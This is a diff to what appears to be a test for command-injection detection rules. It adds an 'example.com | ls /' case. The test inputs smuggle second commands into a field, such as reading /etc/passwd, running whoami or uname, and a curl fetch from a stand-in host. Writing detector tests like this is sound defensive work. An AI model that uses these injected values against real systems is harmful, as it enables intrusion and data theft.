@@ -24,6 +24,7 @@ RULES = Path(__file__).resolve().parents[2] / "rules"
     ("value", "command"),
     [
         ("1; cat /etc/passwd", "cat"),
+        ("example.com | ls /", "ls"),
         ("x|whoami", "whoami"),
         ("a && uname -a", "uname"),
         ("a||curl http://203.0.113.9/x", "curl"),
